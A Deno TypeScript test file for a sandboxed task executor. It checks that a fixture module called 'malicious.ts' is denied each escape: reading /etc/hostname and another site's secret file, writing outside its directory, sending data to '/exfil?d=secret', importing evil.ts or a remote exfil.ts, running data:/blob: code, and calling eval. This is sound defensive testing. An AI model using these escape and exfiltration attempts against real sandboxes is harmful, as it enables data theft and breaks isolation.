import assert from "node:assert/strict";
import { decode, encode } from "../wire/mod.ts";
import { ExecutorProcess } from "./executor_process.ts";
import { SandboxError } from "./sandbox_error.ts";
import { sandboxFlags } from "./sandbox_flags.ts";

const fixtures = new URL("../../tests/_fixtures/executors/", import.meta.url).pathname;
const MODULE = `${fixtures}malicious.ts`;

interface Harness {
  proc: ExecutorProcess;
  run: Deno.HttpServer;
  hits: string[];
  port: number;
  runDir: string;
  outside: string;
  logs: string[];
  task: (name: string, data?: unknown, timeoutMs?: number) => Promise<unknown>;
  close: () => Promise<void>;
}

/** An executor with the real sandbox grant, and a loopback server that records any request. */
async function harness(heapMb = 64): Promise<Harness> {
  const runDir = await Deno.makeTempDir({ prefix: "stockade_run_" });
  const outside = await Deno.makeTempDir({ prefix: "stockade_outside_" });
  await Deno.writeTextFile(`${outside}/secret.txt`, "other site's data");
  const hits: string[] = [];
  const run = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (req) => {
    hits.push(req.url);
    return new Response("export const x = 1;", { headers: { "content-type": "text/javascript" } });
  });
  const logs: string[] = [];
  const proc = new ExecutorProcess({
    module: MODULE,
    grant: { read: [fixtures], write: [runDir], heapMb },
    cwd: runDir,
    log: (level, message) => logs.push(`${level}: ${message}`),
  });
  let n = 0;
  return {
    proc,
    run,
    hits,
    port: run.addr.port,
    runDir,
    outside,
    logs,
    task: async (name, data = null, timeoutMs = 20_000) =>
      decode(
        await proc.run(
          { taskId: `t${n++}`, taskName: name, payload: encode(data), context: {} },
          timeoutMs,
        ),
      ),
    close: async () => {
      await proc.stop();
      await run.shutdown();
      await Deno.remove(runDir, { recursive: true });
      await Deno.remove(outside, { recursive: true });
    },
  };
}

async function denied(p: Promise<unknown>, pattern: RegExp): Promise<SandboxError> {
  const err = await p.then(() => undefined, (e) => e);
  assert.ok(err instanceof SandboxError, `expected a SandboxError, got ${err}`);
  assert.match(err.message, pattern);
  return err;
}

Deno.test("sandboxFlags() grants nothing but the listed paths and closes remote module loading", () => {
  assert.deepEqual(sandboxFlags({ read: ["/job"], write: ["/run"], heapMb: 256 }), [
    "--no-prompt",
    "--deny-net",
    "--deny-env",
    "--deny-run",
    "--deny-ffi",
    "--deny-sys",
    "--deny-import",
    "--no-remote",
    "--no-npm",
    "--cached-only",
    "--no-config",
    "--no-lock",
    "--v8-flags=--max-old-space-size=256,--disallow-code-generation-from-strings",
    "--allow-read=/job",
    "--allow-write=/run",
  ]);
  assert.throws(() => sandboxFlags({ read: ["/a,b"], write: [], heapMb: 64 }), RangeError);
  assert.throws(() => sandboxFlags({ read: ["rel"], write: [], heapMb: 64 }), RangeError);
  assert.throws(() => sandboxFlags({ read: [], write: [], heapMb: 1 }), RangeError);
});

Deno.test("ExecutorProcess runs tasks and turns console output into log messages", async () => {
  const h = await harness();
  try {
    assert.equal(await h.task("double", 21), 42);
    assert.equal(await h.task("log"), "logged");
    assert.ok(h.logs.some((l) => l.startsWith("info: hello from the sandbox")));
    assert.equal(await h.task("write", { path: `${h.runDir}/out.txt` }), "written");
  } finally {
    await h.close();
  }
});

Deno.test("ExecutorProcess denies every escape with NotCapable and keeps serving", async () => {
  const h = await harness();
  try {
    await denied(h.task("read", { path: "/etc/hostname" }), /NotCapable/);
    await denied(h.task("read", { path: `${h.outside}/secret.txt` }), /NotCapable/);
    await denied(h.task("write", { path: `${h.outside}/planted.txt` }), /NotCapable/);
    await denied(h.task("env"), /NotCapable/);
    await denied(h.task("spawn"), /NotCapable/);
    await denied(
      h.task("fetch", { url: `http://127.0.0.1:${h.port}/exfil?d=secret` }),
      /NotCapable/,
    );
    // The module loader must not fetch either: no request may reach the server.
    await denied(
      h.task("import", { url: `http://127.0.0.1:${h.port}/evil.ts?d=secret` }),
      /remote|import/i,
    );
    await denied(h.task("import", { url: "npm:left-pad" }), /npm/i);
    await denied(
      h.task("import", { url: "https://deno.land/x/exfil.ts?d=secret" }),
      /remote|import/i,
    );
    // Code built at run time and loaded from data: or blob: URLs runs in the same box.
    const reader = `export const v = await Deno.readTextFile("/etc/hostname");`;
    await denied(
      h.task("import", { url: `data:text/javascript,${encodeURIComponent(reader)}` }),
      /NotCapable/,
    );
    await denied(h.task("blob", { source: reader }), /NotCapable|Requires read access/);
    await denied(h.task("eval", { source: "1 + 1" }), /EvalError/);
    assert.deepEqual(h.hits, [], "nothing left the sandbox");
    await assert.rejects(Deno.stat(`${h.outside}/planted.txt`), Deno.errors.NotFound);
    assert.equal(await h.task("double", 2), 4, "the executor survives denied attempts");
  } finally {
    await h.close();
  }
});

Deno.test("ExecutorProcess stops a task that overruns its wall time", async () => {
  const h = await harness();
  try {
    const err = await denied(h.task("loop", null, 1500), /wall time/);
    assert.equal(err.code, "EXECUTION_TIMEOUT");
    await h.proc.exited;
    await denied(h.task("double", 1), /wall time/); // the process is gone; the error stays
  } finally {
    await h.close();
  }
});

Deno.test("ExecutorProcess stops an executor that allocates past its heap cap", async () => {
  const h = await harness(32);
  try {
    const err = await denied(h.task("heap", null, 60_000), /heap limit of 32 MB/);
    assert.equal(err.code, "HEAP_EXCEEDED");
  } finally {
    await h.close();
  }
});

Deno.test("ExecutorProcess ends an executor that corrupts its channel", async () => {
  const h = await harness();
  try {
    const err = await denied(h.task("corrupt"), /may not send|channel broken/);
    assert.equal(err.code, "PROTOCOL_VIOLATION");
  } finally {
    await h.close();
  }
});
